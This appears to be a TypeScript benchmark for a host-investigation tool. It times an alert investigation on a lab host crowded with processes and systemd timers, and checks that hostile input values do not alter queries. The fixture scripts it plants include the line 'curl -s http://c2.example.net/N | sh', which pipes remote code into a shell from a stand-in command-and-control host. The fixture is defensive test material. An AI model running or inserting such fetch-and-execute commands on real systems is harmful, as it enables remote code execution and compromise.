/** `tickward investigate` with every step, on a host with 300 processes more and 500 unit files; what a start takes; hostile values in queries. */
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { structureBreakers } from '../helpers/hostile-values.ts';
import type { Benchmark, Measured } from './benchmark.ts';
import type { Lab } from './lab.ts';
import { cpuMs, memoryMb, processIds } from './proc.ts';
import { median } from './statistics.ts';

const PROCESSES = 300;
const UNITS = 500;
const ROUNDS = 7;
const VALUES = 1_000_000;
const LAUNCHER = join(import.meta.dirname, '../../src/node.sh');
const PROGRAM = join(import.meta.dirname, '../../src/cli/main.ts');
const WITHIN_MS = 60_000;

export const investigate: Benchmark = {
  name: 'investigate',
  summary: 'an alert with all steps on the embedded engine; hostile values in its queries',
  limit: 300,
  async run(lab): Promise<Measured> {
    lab.freshHost();
    const file = plant(lab);
    for (let count = 0; count < lab.scaled(PROCESSES); count += 1) lab.processes.start(['sleep', '600']);
    const rounds: Round[] = [];
    for (let round = 0; round < (lab.quick ? 2 : ROUNDS); round += 1) {
      const help = await timed(lab, ['investigate', '--help']);
      const whole = await timed(lab, ['investigate', '--file', file, '--engine', 'embedded', '--json', '--state-dir', join(lab.disk, 'state')]);
      rounds.push({ help: help.ms, ms: whole.ms, cpu: whole.cpu, peakMb: whole.peakMb });
    }
    const of = (which: keyof Round): number => median(rounds.map((round) => round[which]));
    const started = performance.now();
    const { broken, rendered } = structureBreakers(lab.scaled(VALUES), 7);
    const seconds = (performance.now() - started) / 1000;
    return {
      figures: [
        { name: 'an alert, all steps, from exec to end', value: of('ms'), unit: 'ms', target: { most: 1_500 }, note: `median of ${rounds.length}; the fastest ${Math.min(...rounds.map(({ ms }) => ms)).toFixed(0)} ms; ${processIds().length} processes, ${UNITS} unit files` },
        { name: 'of that CPU', value: of('cpu'), unit: 'ms' },
        { name: 'memory at its highest', value: of('peakMb'), unit: 'MB', target: { most: 150 } },
        { name: 'start-up (investigate --help)', value: of('help'), unit: 'ms', target: { most: 120 } },
        { name: 'hostile values that changed a query', value: broken.length, unit: 'values', target: { most: 0 }, note: `of ${lab.scaled(VALUES)}; ${rendered} were put in, the others left out with a reason; ${seconds.toFixed(1)} s` },
      ],
      raw: { rounds: rounds.map((round) => ({ ...round })), broken: broken.slice(0, 10) },
    };
  },
};

interface Round {
  help: number;
  ms: number;
  cpu: number;
  peakMb: number;
}

/** One timer with a script behind it, and many others. */
function plant(lab: Lab): string {
  const scripts = join(lab.disk, 'scripts');
  mkdirSync(scripts, { recursive: true });
  for (let index = 0; index < 10; index += 1) {
    writeFileSync(join(scripts, `run${index}.sh`), `#!/bin/sh\n${join(scripts, `run${index + 1}.sh`)}\ncurl -s http://c2.example.net/${index} | sh\ngrep x /etc/hostname | sed s/x/y/ > /dev/null\n`);
    chmodSync(join(scripts, `run${index}.sh`), 0o755);
  }
  for (let index = 0; index < UNITS / 2; index += 1) {
    writeFileSync(join(lab.units, `job${index}.timer`), '[Timer]\nOnCalendar=hourly\nPersistent=true\n');
    writeFileSync(join(lab.units, `job${index}.service`), `[Service]\nExecStart=${join(scripts, 'run0.sh')}\n`);
  }
  return join(lab.units, 'job0.timer');
}

/** Time to its end, processor time and memory as they were last seen: both only grow. */
async function timed(lab: Lab, args: readonly string[]): Promise<{ ms: number; cpu: number; peakMb: number }> {
  const before = performance.now();
  const child = lab.processes.startDirectly(['/bin/sh', LAUNCHER, PROGRAM, ...args], { env: { PATH: '/usr/sbin:/usr/bin:/sbin:/bin', HOME: '/home/root' } });
  let [cpu, peakMb] = [0, 0];
  let ms = 0;
  child.process.once('exit', () => (ms = performance.now() - before));
  await lab.until(() => {
    cpu = Math.max(cpu, cpuMs(child.pid));
    peakMb = Math.max(peakMb, memoryMb(child.pid, 'VmHWM') || 0);
    return ms > 0;
  }, WITHIN_MS);
  return { ms, cpu, peakMb };
}
